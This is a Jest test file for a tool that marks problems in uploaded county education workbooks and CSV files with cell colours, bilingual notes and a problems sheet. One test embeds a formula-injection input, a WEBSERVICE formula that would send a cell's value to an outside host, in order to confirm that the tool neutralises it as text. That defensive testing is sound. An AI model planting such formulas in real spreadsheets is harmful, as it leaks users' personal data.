import { Workbook } from 'exceljs';
import { badCells } from '../../../test/fixtures/bad-cells';
import { badFiles } from '../../../test/fixtures/bad-files';
import { badRows } from '../../../test/fixtures/bad-rows';
import { csvWith } from '../../../test/fixtures/csv-with';
import { editedWorkbook, workbookWith } from '../../../test/fixtures/edited-workbook';
import { smallCounty, wei } from '../../../test/fixtures/small-county';
import { notesSheet, problemsSheet, sheetNames } from '../../domain/workbook/layouts/county-layout';
import type { CountyReading } from '../county-reading';
import { FileRefusal } from '../file-refusal';
import { readCounty, type CountyFile } from '../read-county';
import { defaultReadingLimits } from '../reading-limits';
import { writeCountyCsv } from './county-csv';
import { writeMarkedWorkbook } from './marked-workbook';

jest.setTimeout(60_000);

async function marked(files: CountyFile[]): Promise<CountyFile> {
  const { problems, errorCount, warningCount } = await readCounty(files);
  return { name: 'marked.xlsx', content: await writeMarkedWorkbook(files, problems, errorCount + warningCount) };
}

async function opened({ content }: CountyFile): Promise<Workbook> {
  const workbook = new Workbook();
  await workbook.xlsx.load(content as unknown as ArrayBuffer);
  return workbook;
}

/** A CSV file's sheet is named after the table; the words of a value are those of the file as it was. */
function placesOf({ problems }: CountyReading): string[] {
  return problems.map(({ code, sheet, cell, row, value }) => [code, sheet.replace(/\.csv$/, ''), cell, row, value].join(' ')).sort();
}

/** What is not read to its end is not marked; the second of two CSV files has another name as a sheet. */
const notAlike = /^FILE\.|SHEET\.(TWICE|TOO_MANY_ROWS)/;
const markable = [...badFiles, ...badCells, ...badRows].filter(({ code }) => !notAlike.test(code));

describe('the marked file', () => {
  it.each(markable)('has the same problems at the same cells when it is not mended: $what', async ({ files }) => {
    const uploaded = await files();
    const before = await readCounty(uploaded);
    expect(placesOf(await readCounty([await marked(uploaded)]))).toEqual(placesOf(before));
  });

  it('is read without a problem once its cells are mended; list, colours and notes stay', async () => {
    const file = await marked(
      await workbookWith('教职工', { A2: Number(wei.identityNumber), B3: null, L2: '2005-02-30', E4: '5223279999' }),
    );
    const workbook = await opened(file);
    const roster = workbook.getWorksheet('教职工')!;
    const [first, second, third] = smallCounty.roster;
    roster.getCell('A2').value = first!.identityNumber;
    roster.getCell('L2').value = first!.enteredEducationOn;
    roster.getCell('B3').value = second!.name;
    roster.getCell('E4').value = third!.schoolCode;
    const reading = await readCounty([{ name: 'mended.xlsx', content: Buffer.from(await workbook.xlsx.writeBuffer()) }]);
    expect(reading.problems).toEqual([]);
    expect(reading.tables.roster.map(({ source: _source, ...row }) => row)).toEqual(smallCounty.roster);
    expect(workbook.worksheets.map(({ name }) => name)).toEqual([...sheetNames(), problemsSheet, notesSheet]);
  });

  it('colours each faulty cell and notes what is expected, in Chinese and English; a warning has another colour', async () => {
    const workbook = await opened(await marked(await workbookWith('学年初统计', { F2: -3, E4: 0, C3: null })));
    const sheet = workbook.getWorksheet('学年初统计')!;
    const fill = (cell: string) => (sheet.getCell(cell).fill as { fgColor?: { argb?: string } } | undefined)?.fgColor?.argb;
    expect(['F2', 'C3', 'E4', 'F3'].map(fill)).toEqual(['FFFFC7CE', 'FFFFC7CE', 'FFFFEB9C', undefined]);
    const note = JSON.stringify(sheet.getCell('F2').note);
    expect(note).toContain('0 至 100000 的整数');
    expect(note).toContain('a whole number from 0 to 100000');
    expect(sheet.getCell('F2').value).toBe(-3);
    expect(sheet.getCell('C1000').dataValidation?.type).toBe('list');
  });

  it('lists every problem with place, value and what is expected', async () => {
    const workbook = await opened(await marked(await workbookWith('教职工', { A3: '522327197412030023', B2: null })));
    const rows = workbook.getWorksheet(problemsSheet)!.getSheetValues() as unknown[][];
    const wrong = rows.find((row) => row?.includes('IDENTITY.WRONG_CHECK_DIGIT'))!;
    expect(wrong.slice(2, 7)).toEqual(['教职工', 3, '身份证件号', 'A3', '5223************23']);
    expect(rows.filter((row) => row?.includes('CELL.MISSING'))).toHaveLength(1);
  });

  it('a formula comes back as text, so that nothing is calculated that the office did not see', async () => {
    const formula = '=WEBSERVICE("http://example.org/"&A2)';
    const files = csvWith('教职工', `身份证件号,姓名\n${wei.identityNumber},"${formula.replaceAll('"', '""')}"`);
    const cell = (await opened(await marked(files))).getWorksheet('教职工')!.getCell('B2');
    expect([cell.formula, cell.value]).toEqual([undefined, formula]);
  });

  it('keeps rows where they stood: a title above the header, blank rows between', async () => {
    const files = await editedWorkbook((workbook) => {
      const roster = workbook.getWorksheet('教职工')!;
      roster.spliceRows(3, 0, [], [], []);
      roster.getCell('L6').value = 'soon';
    });
    const reading = await readCounty([await marked(files)]);
    expect(reading.problems.map(({ code, cell }) => [code, cell])).toEqual([['CELL.NOT_A_DATE', 'L6']]);
    expect(reading.tables.roster.map(({ source }) => source.row)).toEqual([2, 7]);
  });

  it('of CSV files is one workbook with the tables as sheets, and is read as they were', async () => {
    const workbook = await marked(writeCountyCsv(smallCounty, 'gb18030'));
    const reading = await readCounty([workbook]);
    expect(reading.problems).toEqual([]);
    expect(reading.tables.roster.map(({ source: _source, ...row }) => row)).toEqual(smallCounty.roster);
  });

  it('of a table that was given twice has it twice', async () => {
    const files = [...writeCountyCsv(smallCounty), { name: 'folder/学校.csv', content: Buffer.from('学校代码\nX') }];
    const codes = (await readCounty([await marked(files)])).problems.map(({ code, sheet }) => [code, sheet]);
    expect(codes).toEqual([['SHEET.TWICE', '2-学校']]);
  });

  it.each(badFiles.filter(({ code }) => code.startsWith('FILE.')))('is not made of $what', async ({ files }) => {
    await expect(writeMarkedWorkbook(await files(), [], 0)).rejects.toBeInstanceOf(FileRefusal);
  });

  it('is not made of a sheet with more rows than are read: the last would be missing', async () => {
    const lines = Array.from({ length: 11 }, (_, index) => `2026-09-01,5223270001,小学,一年级,1,${index}`);
    const files = csvWith('学年初统计', ['统计日期,学校代码,学段,年级,班级数,学生数', ...lines].join('\n'));
    const limits = { ...defaultReadingLimits, rowsPerSheet: 10 };
    await expect(writeMarkedWorkbook(files, [], 0, limits)).rejects.toBeInstanceOf(FileRefusal);
    await expect(writeMarkedWorkbook(files, [], 0, { ...limits, rowsPerSheet: 11 })).resolves.toBeInstanceOf(Buffer);
  });
});
